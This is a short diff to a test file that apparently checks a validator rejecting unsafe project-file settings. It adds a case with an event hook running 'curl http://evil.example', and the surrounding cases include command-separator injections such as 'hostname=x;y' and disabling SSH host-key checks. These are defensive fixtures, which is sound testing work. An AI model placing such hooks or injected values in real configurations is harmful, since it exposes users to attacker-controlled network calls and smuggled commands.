@@ -287,6 +287,7 @@ describe('a project file', () => {
     ['ssh_options: [hostname=x;y]', 'ssh_options: hostname may not'],
     ['ssh_options: [StrictHostKeyChecking=no]', 'ssh_options: StrictHostKeyChecking may not'],
     ['ssh_config: theirs', 'ssh_config: may not'],
+    ['on_event: curl http://evil.example', 'on_event: may not'],
     ['openstack_catalog: true', 'openstack_catalog: may not'],
     ['openstack_catalog: cli', 'openstack_catalog: may not'],
     ['jump: "a;b"', 'jump: has a host'],
